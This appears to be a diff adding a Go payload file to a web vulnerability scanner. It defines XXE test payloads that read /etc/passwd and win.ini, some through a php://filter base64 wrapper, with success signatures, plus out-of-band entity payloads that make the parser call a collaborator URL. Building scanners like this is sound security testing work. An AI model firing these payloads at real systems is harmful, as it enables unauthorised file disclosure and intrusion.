@@ -0,0 +1,51 @@
+package payloads
+
+// XXEInBandTest is an external entity declaration whose resolved value is expected in the
+// response. DTDTemplate uses {ROOT} (the document's root element name); the declared general
+// entity "xxe" is referenced from the document's text nodes.
+type XXEInBandTest struct {
+	DTDTemplate string
+	Description string
+	Signatures  []string
+}
+
+// XXEInBandTests read well-known local files through a general external entity.
+var XXEInBandTests = []XXEInBandTest{
+	{
+		DTDTemplate: `<!DOCTYPE {ROOT} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`,
+		Description: "file:///etc/passwd",
+		Signatures:  []string{"root:x:0:0:", "daemon:x:1:1:"},
+	},
+	{
+		DTDTemplate: `<!DOCTYPE {ROOT} [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>`,
+		Description: "file:///c:/windows/win.ini",
+		Signatures:  []string{"for 16-bit app support", "[fonts]"},
+	},
+	{
+		DTDTemplate: `<!DOCTYPE {ROOT} [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]>`,
+		Description: "php://filter base64 of /etc/passwd",
+		Signatures:  []string{"cm9vdDp4OjA6MD"},
+	},
+}
+
+// XXEOOBTest is an entity declaration that makes the parser fetch {URL} on the OOB collaborator.
+// ReferencesEntity is true when the document's text nodes must reference the general entity
+// "xxe"; parameter-entity payloads are expanded inside the DTD itself.
+type XXEOOBTest struct {
+	DTDTemplate      string
+	Description      string
+	ReferencesEntity bool
+}
+
+// XXEOOBTests detect blind XXE through out-of-band callbacks.
+var XXEOOBTests = []XXEOOBTest{
+	{
+		DTDTemplate: `<!DOCTYPE {ROOT} [<!ENTITY % xxe SYSTEM "{URL}"> %xxe;]>`,
+		Description: "external parameter entity",
+	},
+	{
+		DTDTemplate:      `<!DOCTYPE {ROOT} [<!ENTITY xxe SYSTEM "{URL}">]>`,
+		Description:      "external general entity",
+		ReferencesEntity: true,
+	},
+}